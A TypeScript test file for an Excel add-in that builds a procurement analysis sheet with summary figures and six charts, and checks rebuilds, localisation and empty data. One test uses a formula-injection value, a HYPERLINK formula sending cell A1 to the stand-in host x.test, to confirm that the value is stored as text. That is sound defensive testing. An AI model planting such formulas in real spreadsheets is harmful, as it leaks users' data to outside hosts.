import { analyzeHistory, enoughClosed, MIN_CLOSED_CASES } from "../../core/analysis/analyze";
import type { ProcessDefinition } from "../../core/definition/types";
import type { Lang } from "../../words/lang";
import { parseLocal, toExcelSerial } from "../../core/time/local-time";
import type { ApiVersion } from "../../../test/excel-sim/requirement-sets";
import type { ExcelSimulation } from "../../../test/excel-sim";
import { readPast } from "../learn/read-past";
import type { ProcessBinding } from "../../workbook/binding";
import { syncProcess } from "../sync/run-sync";
import { compiledBinding } from "../../workbook/compiled-binding";
import { NOW, readTable, registerIn, template } from "../../../test/excel-fixtures/sim-fixture";
import { buildCharts } from "./analysis-sheet";
import { CHART_LEFT, DATA_LEFT } from "../../workbook/charts/chart-specs";
import { ANALYSIS_LABELS, CHART_KEYS } from "../../workbook/charts/labels";
import { SUMMARY_COLUMNS } from "../../workbook/charts/summary-block";

const noSleep = { run: { sleep: async () => undefined } };
const SYNCS = ["2026-03-04T10:00:00", "2026-03-09T11:00:00", "2026-03-16T09:00:00"];
const AT = "2026-03-18T12:00:00";
const EN = ANALYSIS_LABELS.en;
const ZH = ANALYSIS_LABELS["zh-CN"];
type Grid = (string | number | boolean)[][];

async function sync(binding: ProcessBinding, now: string): Promise<void> {
  const r = await syncProcess({ binding, now, ...noSleep });
  if (!r.ok) throw new Error(r.error.message);
}

/** A person marks `n` open cases Done in the register (typing in the Status cell). */
async function markDone(sim: ExcelSimulation, n: number): Promise<void> {
  const [header, ...rows] = await readTable("PS_procurement");
  const col = String.fromCharCode(65 + (header ?? []).indexOf("Status"));
  const open = rows
    .map((r, i) => ({ status: r[(header ?? []).indexOf("Status")], i }))
    .filter((r) => r.status === "In progress" || r.status === "To do")
    .slice(0, n);
  for (const r of open) sim.setCellByUser("Procurement", `${col}${r.i + 2}`, "Done");
  await sim.settle();
}

/** The procurement register synced four times over two weeks, cases marked Done between syncs. */
async function workbookWithHistory(
  apiVersion?: ApiVersion,
  definition: ProcessDefinition = template("procurement"),
): Promise<{ sim: ExcelSimulation; binding: ProcessBinding }> {
  const { sim, binding } = await registerIn(definition, { sim: apiVersion ? { apiVersion } : {} });
  await sync(binding, NOW);
  for (const t of SYNCS) {
    await markDone(sim, 3);
    await sync(binding, t);
  }
  return { sim, binding };
}

async function build(binding: ProcessBinding, lang: Lang = "en", now = AT) {
  const r = await buildCharts(binding, now, lang);
  if (!r.ok) throw new Error(r.error.message);
  return r.value;
}

function row(values: Grid, label: string): (string | number | boolean)[] {
  const hit = values.find((r) => r[0] === label);
  if (!hit) throw new Error(`no summary row "${label}"`);
  return hit;
}

function colIndex(letters: string): number {
  let n = 0;
  for (const ch of letters) n = n * 26 + ch.charCodeAt(0) - 64;
  return n - 1;
}

/** `='Sheet name'!$AB$5:$AB$9` or `Sheet!F1` → sheet and 0-based rectangle. */
function parseRef(ref: string): { sheet: string; top: number; left: number; bottom: number; right: number } {
  const m = /^=?(?:'((?:[^']|'')+)'|([^!]+))!\$?([A-Z]+)\$?(\d+)(?::\$?([A-Z]+)\$?(\d+))?$/.exec(ref);
  if (!m) throw new Error(`not a reference: ${ref}`);
  const left = colIndex(m[3] as string);
  const top = Number(m[4]) - 1;
  return {
    sheet: (m[1] ?? m[2] ?? "").replace(/''/g, "'"),
    top,
    left,
    bottom: m[6] ? Number(m[6]) - 1 : top,
    right: m[5] ? colIndex(m[5]) : left,
  };
}

function cells(values: Grid, ref: string): (string | number | boolean)[] {
  const r = parseRef(ref);
  const out: (string | number | boolean)[] = [];
  for (let y = r.top; y <= r.bottom; y++)
    for (let x = r.left; x <= r.right; x++) out.push(values[y]?.[x] ?? "");
  return out;
}

const sum = (xs: readonly (string | number | boolean)[]): number =>
  xs.reduce<number>((s, v) => s + (typeof v === "number" ? v : 0), 0);

describe.each<[string, ApiVersion | undefined]>([
  ["ExcelApi 1.13 (the manifest's minimum)", "1.13"],
  ["the newest ExcelApi", "1.21"],
])("the Analysis sheet at %s", (_label, apiVersion) => {
  let sim: ExcelSimulation;
  let binding: ProcessBinding;
  beforeEach(async () => {
    ({ sim, binding } = await workbookWithHistory(apiVersion));
  });
  afterEach(() => sim.uninstall());

  it("holds the summary figures of analyzeHistory on the same events, numbers with number formats", async () => {
    const report = await build(binding);
    expect(report.sheetName).toBe("Procurement Analysis");
    const past = await readPast(binding);
    const compiled = compiledBinding(binding);
    if (!past.ok || !compiled.ok) throw new Error("setup");
    const register = past.value.register.map((c) => c.row);
    const a = analyzeHistory(compiled.value, past.value.events, { now: AT, register });
    expect(a.cases.closed).toBeGreaterThan(2);

    const sheet = sim.snapshot().sheets[report.sheetName];
    if (!sheet) throw new Error("no sheet");
    const v = sheet.values;
    expect(v[0]?.[0]).toBe("Procurement: analysis");
    expect(v[1]?.[1]).toBe(toExcelSerial(parseLocal(AT) as number));
    expect(row(v, EN.rows.closed)[1]).toBe(a.cases.closed);
    expect(row(v, EN.rows.cancelled)[1]).toBe(a.cases.cancelled);
    expect(row(v, EN.rows.open)[1]).toBe(a.cases.open);
    expect(row(v, EN.rows.cycleCount)[1]).toBe(a.cycleTimeDays.count);
    expect(row(v, EN.rows.cycleMean)[1]).toBeCloseTo(a.cycleTimeDays.mean as number, 12);
    expect(row(v, EN.rows.cycleP50)[1]).toBeCloseTo(a.cycleTimeDays.p50 as number, 12);
    expect(row(v, EN.rows.cycleP95)[1]).toBeCloseTo(a.cycleTimeDays.p95 as number, 12);
    const p85 = row(v, EN.rows.cycleP85);
    expect(p85[1]).toBeCloseTo(a.cycleTimeDays.p85 as number, 12);
    // Fewer closed cases than the minimum are shown but not judged.
    const verdict = !enoughClosed(a)
      ? EN.notEnough(a.cases.closed, MIN_CLOSED_CASES)
      : (a.cycleTimeDays.p85 as number) <= 25
        ? EN.verdicts.withinGoal
        : EN.verdicts.overGoal;
    expect(p85.slice(2, 4)).toEqual([25, verdict]);
    const onTime = row(v, EN.rows.onTime);
    expect(onTime[1]).toBeCloseTo(a.onTimeRate as number, 12);
    expect(onTime[2]).toBe(0.85);
    const dates = a.forecast.dates;
    if (!dates) throw new Error("expected a forecast");
    const serial = (d: string): number => toExcelSerial(parseLocal(d) as number);
    if (enoughClosed(a)) {
      expect(row(v, EN.rows.forecastP50)[1]).toBe(serial(dates.p50));
      expect(row(v, EN.rows.forecastP85)[1]).toBe(serial(dates.p85));
      expect(row(v, EN.rows.forecastP95)[1]).toBe(serial(dates.p95));
    } else expect(row(v, EN.rows.forecastP50)[1]).toBe(EN.notEnough(a.cases.closed, MIN_CLOSED_CASES));
    // On time by step, for the steps with an SLA: the rate, and how many stays ran late.
    const slaHeader = v.findIndex((r) => r[0] === EN.slaSteps.title) + 1;
    const withSla = binding.definition.steps.filter((s) => s.slaDays !== undefined);
    withSla.forEach((s, i) => {
      const r = v[slaHeader + 1 + i] ?? [];
      expect([r[0], r[1]]).toEqual([(s.name as { en: string }).en, s.slaDays]);
      const rate = a.onTimeByStep[s.id] ?? null;
      if (rate === null) expect(r[2]).toBe(EN.empty.noOnTime);
      else expect(r[2]).toBeCloseTo(rate, 12);
      expect(r[3]).toBe(a.breaches.filter((b) => b.step === s.id).length);
    });
    // The breaches, those still in their step first.
    const breachHeader = v.findIndex((r) => r[0] === EN.breaches.case);
    expect(a.breaches.length).toBeGreaterThan(0);
    const first = v[breachHeader + 1] ?? [];
    const open = a.breaches.filter((b) => b.left === null);
    if (open.length > 0) expect(first[2]).toBe(EN.breaches.stillOpen);
    // WIP per step: open count and oldest age, in definition order, step names in the user's language.
    const wipHeader = v.findIndex((r) => r[0] === EN.wip.step);
    binding.definition.steps.forEach((s, i) => {
      const r = v[wipHeader + 1 + i] ?? [];
      const w = a.wip[s.id];
      expect([r[0], r[1]]).toEqual([(s.name as { en: string }).en, w?.open]);
      if (w?.oldestAgeDays === null) expect(r[2]).toBe("");
      else expect(r[2]).toBeCloseTo(w?.oldestAgeDays as number, 12);
    });

    const at = (label: string, col: number): string | undefined => {
      const i = v.findIndex((r) => r[0] === label);
      return sheet.numberFormats[`${String.fromCharCode(65 + col)}${i + 1}`];
    };
    expect(at(EN.rows.cycleMean, 1)).toBe("0.0");
    expect(at(EN.rows.cycleP85, 2)).toBe("0.0");
    expect(at(EN.rows.onTime, 1)).toBe("0%");
    expect(at(EN.rows.onTime, 2)).toBe("0%");
    expect(at(EN.rows.forecastP85, 1)).toBe("yyyy-mm-dd");
    expect(at(EN.rows.closed, 1)).toBe("0");
  });

  it("has six named charts, each series reading the chart-data area, none overlapping another or the data", async () => {
    const report = await build(binding);
    const sheet = sim.snapshot().sheets[report.sheetName];
    if (!sheet) throw new Error("no sheet");
    const charts = sheet.charts;
    expect(charts.map((c) => c.name)).toEqual(CHART_KEYS.map((k) => `PS_procurement_${k}`));
    // The report lists what people see: the charts' titles.
    expect(report.charts).toEqual(charts.map((c) => c.title));
    expect(charts.map((c) => c.type)).toEqual([
      "ColumnClustered",
      "XYScatter",
      "ColumnClustered",
      "XYScatter",
      "ColumnClustered",
      "AreaStacked",
    ]);
    for (const c of charts)
      for (const s of c.series)
        for (const ref of [s.values, s.xValues]) {
          const r = parseRef(ref as string);
          expect(r.sheet).toBe(report.sheetName);
          expect(r.left).toBeGreaterThanOrEqual(DATA_LEFT);
        }
    const boxes = charts.map((c) => {
      const a = parseRef(c.position?.start as string);
      const b = parseRef(c.position?.end as string);
      return { top: a.top, left: a.left, bottom: b.bottom, right: b.right };
    });
    for (const [i, b] of boxes.entries()) {
      expect(b.left).toBeGreaterThanOrEqual(SUMMARY_COLUMNS);
      expect(b.right).toBeLessThan(DATA_LEFT);
      for (const o of boxes.slice(i + 1))
        expect(b.right < o.left || o.right < b.left || b.bottom < o.top || o.bottom < b.top).toBe(true);
    }
    expect(Math.min(...boxes.map((b) => b.left))).toBe(CHART_LEFT);

    // The charts read the figures: histogram and throughput add up to the closed cases, the scatter has one
    // point per closed case, cumulative flow's Done band ends at the same number.
    const closed = row(sheet.values, EN.rows.closed)[1] as number;
    const [hist, scatter, steps, aging, throughput, flow] = charts;
    expect(sum(cells(sheet.values, hist?.series[0]?.values as string))).toBe(closed);
    expect(sum(cells(sheet.values, throughput?.series[0]?.values as string))).toBe(closed);
    expect(cells(sheet.values, scatter?.series[0]?.values as string)).toHaveLength(closed);
    expect(scatter?.series.map((s) => [s.name, s.chartType])).toEqual([
      ["Closed cases", "XYScatter"],
      ["p50 (median: half finish within)", "XYScatterLinesNoMarkers"],
      ["p85 (85% finish within)", "XYScatterLinesNoMarkers"],
      ["p95 (95% finish within)", "XYScatterLinesNoMarkers"],
      ["Goal", "XYScatterLinesNoMarkers"],
    ]);
    expect(cells(sheet.values, scatter?.series[4]?.values as string)).toEqual([25, 25]);
    const done = cells(sheet.values, flow?.series[0]?.values as string);
    expect([flow?.series[0]?.name, done[done.length - 1]]).toEqual(["Done", closed]);
    expect(flow?.series).toHaveLength(binding.definition.steps.length + 1);
    expect(cells(sheet.values, steps?.series[0]?.xValues as string)).toEqual(
      binding.definition.steps.map((s) => (s.name as { en: string }).en),
    );
    // One aging series per step holding open cases, then the p85 reference; every open case plotted once.
    const open = row(sheet.values, EN.rows.open)[1] as number;
    const points = aging?.series.slice(0, -1).flatMap((s) => cells(sheet.values, s.values as string)) ?? [];
    expect(points).toHaveLength(open);
    expect(aging?.series[aging.series.length - 1]?.name).toBe(EN.series.pastP85);
    expect(hist?.title).toBe(EN.charts.cycleHistogram.title);
    expect(hist?.axes).toEqual({
      category: { title: EN.charts.cycleHistogram.x },
      value: { title: EN.charts.cycleHistogram.y },
    });
  });

  it("leaves the same sheets, charts and cells after three runs (docs/reliability.md W8)", async () => {
    const report = await build(binding);
    const state = () => {
      const snap = sim.snapshot();
      const s = snap.sheets[report.sheetName];
      return { order: snap.sheetOrder, values: s?.values, formats: s?.numberFormats, charts: s?.charts };
    };
    const first = state();
    await build(binding);
    await build(binding);
    expect(state()).toEqual(first);
    expect(first.charts).toHaveLength(6);
  });
});

describe("rebuilding the Analysis sheet", () => {
  let sim: ExcelSimulation;
  let binding: ProcessBinding;
  beforeEach(async () => {
    ({ sim, binding } = await workbookWithHistory());
  });
  afterEach(() => sim.uninstall());

  const chartsOf = (sheet: string) => sim.snapshot().sheets[sheet]?.charts ?? [];

  it("updates its charts in place as History grows: same charts (ids), series pointing at the new rows", async () => {
    const report = await build(binding);
    const rowsOf = (ref: string | undefined): number => {
      const r = parseRef(ref as string);
      return r.bottom - r.top + 1;
    };
    const before = chartsOf(report.sheetName);
    await markDone(sim, 4);
    await sync(binding, "2026-03-20T10:00:00");
    const again = await build(binding, "en", "2026-03-23T09:00:00");
    const after = chartsOf(again.sheetName);
    expect(after.map((c) => [c.id, c.name])).toEqual(before.map((c) => [c.id, c.name]));
    // Five more days of cumulative flow; the scatter holds exactly the cases closed by now.
    expect(rowsOf(after[5]?.series[0]?.values)).toBe(rowsOf(before[5]?.series[0]?.values) + 5);
    const values = sim.snapshot().sheets[again.sheetName]?.values ?? [];
    expect(rowsOf(after[1]?.series[0]?.values)).toBe(row(values, EN.rows.closed)[1]);
    expect(sim.snapshot().sheetOrder.filter((n) => n.includes("Analysis"))).toEqual(["Procurement Analysis"]);
  });

  it("keeps a chart the person added on the sheet, and says so", async () => {
    const report = await build(binding);
    await Excel.run(async (context) => {
      const sheet = context.workbook.worksheets.getItem(report.sheetName);
      const mine = sheet.charts.add("Pie", sheet.getRange("B6:B8"), "Columns");
      mine.name = "My pie";
      mine.title.text = "Mine";
      mine.setPosition("F60", "K75");
      await context.sync();
    });
    const mineBefore = chartsOf(report.sheetName).find((c) => c.name === "My pie");
    const again = await build(binding);
    const after = chartsOf(report.sheetName);
    expect(after).toHaveLength(7);
    expect(after.find((c) => c.name === "My pie")).toEqual(mineBefore);
    expect(again.notes).toContain(EN.notes.userCharts(1));
  });

  it("finds its sheet after a rename and recreates a chart someone deleted, still six", async () => {
    const report = await build(binding);
    await Excel.run(async (context) => {
      const sheet = context.workbook.worksheets.getItem(report.sheetName);
      sheet.name = "Our numbers";
      sheet.charts.getItem("PS_procurement_throughput").delete();
      await context.sync();
    });
    const again = await build(binding);
    expect(again.sheetName).toBe("Our numbers");
    expect(chartsOf("Our numbers").map((c) => c.name)).toHaveLength(6);
    expect(
      chartsOf("Our numbers")
        .map((c) => c.title)
        .sort(),
    ).toEqual([...again.charts].sort());
    expect(sim.snapshot().sheetOrder).not.toContain("Procurement Analysis");
  });

  it("never writes over a person's sheet that happens to have the name it wants", async () => {
    await Excel.run(async (context) => {
      context.workbook.worksheets.add("Procurement Analysis").getRange("A1").values = [["my notes"]];
      await context.sync();
    });
    const report = await build(binding);
    expect(report.sheetName).toBe("Procurement Analysis 2");
    expect(sim.snapshot().sheets["Procurement Analysis"]?.values).toEqual([["my notes"]]);
  });

  it("clears what an earlier run wrote when the data shrinks: the sheet is as if built from scratch", async () => {
    const report = await build(binding);
    await Excel.run(async (context) => {
      // History and the register both emptied: the analysis reads both.
      context.workbook.tables.getItem(binding.historyTableName).getDataBodyRange().clear();
      context.workbook.tables.getItem(binding.tableName).getDataBodyRange().clear();
      await context.sync();
    });
    await build(binding);
    const rebuilt = sim.snapshot().sheets[report.sheetName];
    sim.uninstall();
    ({ sim, binding } = await registerIn(template("procurement"), { sample: false }));
    const fresh = await build(binding);
    const scratch = sim.snapshot().sheets[fresh.sheetName];
    expect(rebuilt?.values).toEqual(scratch?.values);
    expect(rebuilt?.numberFormats).toEqual(scratch?.numberFormats);
  });

  it("never rebuilds a sheet holding a table, even one carrying a chart with its name", async () => {
    await Excel.run(async (context) => {
      const sheet = context.workbook.worksheets.add("Mixed");
      sheet.getRange("A1:B3").values = [
        ["Item", "Qty"],
        ["x", 1],
        ["y", 2],
      ];
      sheet.tables.add("Mixed!A1:B3", true);
      sheet.charts.add("ColumnClustered", sheet.getRange("B1:B3"), "Columns").name =
        "PS_procurement_throughput";
      await context.sync();
    });
    const before = sim.snapshot().sheets["Mixed"];
    const report = await build(binding);
    expect(report.sheetName).toBe("Procurement Analysis");
    expect(sim.snapshot().sheets["Mixed"]).toEqual(before);
    expect(chartsOf(report.sheetName)).toHaveLength(6);
  });

  it("speaks the user's language: titles, labels and series in zh-CN on the same sheet", async () => {
    const en = await build(binding);
    const zh = await build(binding, "zh-CN");
    expect(zh.sheetName).toBe(en.sheetName);
    expect(zh.notes[0]).toBe(ZH.notes.updated(en.sheetName));
    const sheet = sim.snapshot().sheets[zh.sheetName];
    if (!sheet) throw new Error("no sheet");
    expect(sheet.values[0]?.[0]).toBe("采购流程：分析");
    expect(row(sheet.values, ZH.rows.closed)[1]).toBeGreaterThan(0);
    expect(sheet.values.some((r) => r[0] === "确定产品需求")).toBe(true);
    expect(sheet.charts.map((c) => [c.title, c.axes.category.title, c.axes.value.title])).toEqual(
      CHART_KEYS.map((k) => [ZH.charts[k].title, ZH.charts[k].x, ZH.charts[k].y]),
    );
    expect(sheet.charts[5]?.series[0]?.name).toBe("已完成");
    expect(sheet.charts).toHaveLength(6);
  });
});

describe("the Analysis sheet in special cases", () => {
  it("is named in the user's language when first made in zh-CN", async () => {
    const { sim, binding } = await workbookWithHistory();
    try {
      const r = await build(binding, "zh-CN");
      expect(r.sheetName).toBe("采购流程 分析");
      expect(r.notes[0]).toBe(ZH.notes.created("采购流程 分析"));
    } finally {
      sim.uninstall();
    }
  });

  it("builds from an empty History: labels say why, six charts with empty series, the same on a re-run", async () => {
    const { sim, binding } = await registerIn(template("procurement"), { sample: false });
    try {
      const r = await build(binding);
      expect(r.notes).toEqual([EN.notes.created(r.sheetName), EN.notes.noEvents]);
      const sheet = sim.snapshot().sheets[r.sheetName];
      if (!sheet) throw new Error("no sheet");
      const v = sheet.values;
      expect(row(v, EN.rows.closed)[1]).toBe(0);
      expect(row(v, EN.rows.cycleMean)[1]).toBe(EN.empty.noClosed);
      expect(row(v, EN.rows.cycleP85).slice(1, 4)).toEqual([EN.empty.noClosed, 25, ""]);
      expect(row(v, EN.rows.onTime)[1]).toBe(EN.empty.noOnTime);
      expect(row(v, EN.rows.throughput)[1]).toBe(EN.empty.noWeeks);
      expect(row(v, EN.rows.forecastP50)[1]).toBe(EN.empty.noOpen);
      expect(sheet.charts).toHaveLength(6);
      for (const c of sheet.charts) {
        expect(c.series.length).toBeGreaterThan(0);
        for (const s of c.series) expect(cells(v, s.values as string).every((x) => x === "")).toBe(true);
      }
      const before = sim.snapshot().sheets[r.sheetName];
      await build(binding);
      expect(sim.snapshot().sheets[r.sheetName]).toEqual(before);
    } finally {
      sim.uninstall();
    }
  });

  it("writes a step name that looks like a formula as text, in cells and in series names (docs/reliability.md X2)", async () => {
    const evil = '=HYPERLINK("http://x.test/?"&A1,"go")';
    const definition = template("procurement");
    const steps = definition.steps.map((s, i) => (i === 0 ? { ...s, name: { en: evil, "zh-CN": evil } } : s));
    const { sim, binding } = await workbookWithHistory(undefined, { ...definition, steps });
    try {
      const r = await build(binding);
      const sheet = sim.snapshot().sheets[r.sheetName];
      if (!sheet) throw new Error("no sheet");
      expect(sheet.values.filter((row) => row.includes(evil)).length).toBeGreaterThan(0);
      const flowNames = sheet.charts[5]?.series.map((s) => s.name) ?? [];
      expect(flowNames).toContain(`'${evil}`);
    } finally {
      sim.uninstall();
    }
  });
});
